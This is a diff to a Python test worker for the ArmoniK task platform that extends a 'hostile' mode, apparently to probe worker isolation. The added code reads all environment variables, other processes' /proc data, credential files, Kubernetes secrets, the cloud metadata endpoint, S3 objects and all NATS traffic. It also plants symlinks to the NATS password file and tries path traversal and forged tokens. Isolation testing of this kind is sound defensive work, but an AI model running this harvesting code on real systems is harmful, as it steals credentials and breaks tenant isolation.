@@ -15,20 +15,25 @@ Options (all text): `mode`, and what the mode takes.
 - `concat`: the data dependencies, sorted by id, joined by commas
 - `subtasks`: payload "1 2 3": one child squares each number, a last one adds up what they made and is handed
   this task's own outputs; with `then: "error"` or `then: "raise"` it fails after that
-- `hostile`: looks for the agent's credentials; the result lists what it could read
+- `hostile`: looks for what is not its own: files, processes, servers (`nats`, `s3`, `object`, `namespace` say
+  where); the result is all it could read
+- `swap`: puts a link to `target` in the place of its result after it told the agent of it
 """
 
 import json
 import os
+import socket
+import ssl
 import time
+import urllib.error
+import urllib.request
 from datetime import timedelta
 from pathlib import Path
 
+import grpc
 from armonik.common import Output, TaskDefinition, TaskOptions
+from armonik.protogen.common.agent_common_pb2 import NotifyResultDataRequest
 from armonik.worker import TaskHandler, armonik_worker
-
-_CREDENTIAL_FILES = ("nats-password", "nats-user", "nats-url", "s3-access-key", "s3-secret-key")
-_CREDENTIAL_WORDS = ("password", "secret", "access_key", "token", "nats", "s3_")
 
 
 @armonik_worker()
@@ -67,7 +72,12 @@ def lab(task: TaskHandler) -> Output:
         case "subtasks":
             return _subtasks(task)
         case "hostile":
-            return _send(task, json.dumps(_loot()).encode())
+            return _send(task, json.dumps(_loot(task, options), default=str).encode())
+        case "swap":
+            _send(task, task.payload)
+            for result in task.expected_results:
+                _link(task, result, options["target"])
+            return Output()
         case mode:
             return Output(error=f"unknown mode {mode!r}")
 
@@ -143,34 +153,101 @@ def _child_options(task: TaskHandler, mode: str) -> TaskOptions:
     )
 
 
-def _loot() -> list[str]:
-    """Every place where something like a credential could be read."""
-    found = [f"env:{name}" for name in os.environ if any(word in name.lower() for word in _CREDENTIAL_WORDS)]
-    roots = [Path("/"), *(entry / "root" for entry in Path("/proc").glob("[0-9]*"))]
-    for root in roots:
-        found += [
-            str(root / "run/armonik" / name)
-            for name in _CREDENTIAL_FILES
-            if _readable(root / "run/armonik" / name)
-        ]
-    found += [str(file) for file in Path("/cache").rglob("*") if file.name in _CREDENTIAL_FILES]
-    for entry in Path("/proc").glob("[0-9]*"):
-        if entry.name != str(os.getpid()) and b"armonik_agent" in _content(entry / "cmdline"):
-            found.append(str(entry))
-        if b"ARMONIK_CREDENTIALS" in _content(entry / "environ"):
-            found.append(str(entry / "environ"))
-    return sorted(found)
+def _loot(task: TaskHandler, options: dict[str, str]) -> dict[str, object]:
+    """Everything within reach, secret or not: whoever reads it knows what to look for."""
+    processes = [entry for entry in Path("/proc").glob("[0-9]*") if _content(entry / "cmdline")]
+    roots = [Path("/"), *(entry / "root" for entry in processes)]
+    files = [
+        file
+        for root in roots
+        for folder in ("run", "var/run", "cache", "tmp", "etc/armonik", "credentials")
+        for file in _below(root / folder)
+    ]
+    files += [entry / name for entry in processes for name in ("environ", "cmdline", "maps", "mountinfo")]
+    api = f"https://kubernetes.default.svc/api/v1/namespaces/{options['namespace']}/secrets"
+    expected = task.expected_results[0]
+    _link(task, expected, "/run/armonik/nats-password")
+    found = {
+        "environment": dict(os.environ),
+        "files": {str(file): _content(file).decode("latin-1") for file in files},
+        "descriptors": [str(_target(link)) for entry in processes for link in _below(entry / "fd")],
+        "foreign processes": [
+            str(entry) for entry in processes if b"worker.py" not in _content(entry / "cmdline")
+        ],
+        "token": [str(file) for file in _below(Path("/var/run/secrets")) if _content(file)],
+        "apiserver": _http(api),
+        "nats": _greet(options["nats"]),
+        "s3 list": _http(f"http://{options['s3']}/armonik?list-type=2"),
+        "s3 get": _http(f"http://{options['s3']}/{options['object']}"),
+        "metadata address": _http("http://169.254.169.254/latest/meta-data/"),
+        "wrong token": _notify(task, expected, token="guessed"),
+        "path outside": _notify(task, "../../../run/armonik/nats-password", token=task.token),
+        "link as result": _notify(task, expected, token=task.token),
+    }
+    (Path(task.data_folder) / expected).unlink()
+    return found
 
 
-def _readable(file: Path) -> bool:
-    return bool(_content(file))
+def _below(folder: Path) -> list[Path]:
+    try:
+        return [file for file in folder.rglob("*") if not file.is_dir() and not file.is_socket()]
+    except OSError:
+        return []  # hidden, which is what a hostile worker should meet everywhere
 
 
 def _content(file: Path) -> bytes:
     try:
-        return file.read_bytes()
+        with file.open("rb") as opened:
+            return opened.read(64 * 1024)
     except OSError:
-        return b""  # not readable is what a hostile worker should meet everywhere
+        return b""
+
+
+def _target(link: Path) -> str:
+    try:
+        return str(link.readlink())
+    except OSError:
+        return ""
+
+
+def _link(task: TaskHandler, result: str, target: str) -> None:
+    place = Path(task.data_folder) / result
+    place.unlink(missing_ok=True)
+    place.symlink_to(target)
+
+
+def _notify(task: TaskHandler, result: str, token: str) -> str:
+    """What the agent says to a result that is told to it."""
+    ids = [NotifyResultDataRequest.ResultIdentifier(session_id=task.session_id, result_id=result)]
+    try:
+        task._client.NotifyResultData(NotifyResultDataRequest(ids=ids, communication_token=token))
+    except grpc.RpcError as error:
+        return str(error.code().name)
+    return "accepted"
+
+
+def _http(url: str) -> object:
+    """The status of an answer, and its body if there is one to steal."""
+    trust = ssl._create_unverified_context()
+    try:
+        with urllib.request.urlopen(url, timeout=5, context=trust) as answer:
+            return answer.read(64 * 1024).decode("latin-1")
+    except urllib.error.HTTPError as refusal:
+        return refusal.code
+    except OSError:
+        return "unreachable"
+
+
+def _greet(address: str) -> str:
+    """What NATS says to a stranger."""
+    host, _, port = address.partition(":")
+    with socket.create_connection((host, int(port)), timeout=5) as connection:
+        connection.settimeout(5)
+        said = connection.recv(4096)
+        connection.sendall(b'CONNECT {"verbose":false}\r\nSUB > 1\r\nPING\r\n')
+        while not said.endswith(b"PONG\r\n") and (more := connection.recv(4096)):
+            said += more
+        return said.decode("latin-1")
 
 
 if __name__ == "__main__":
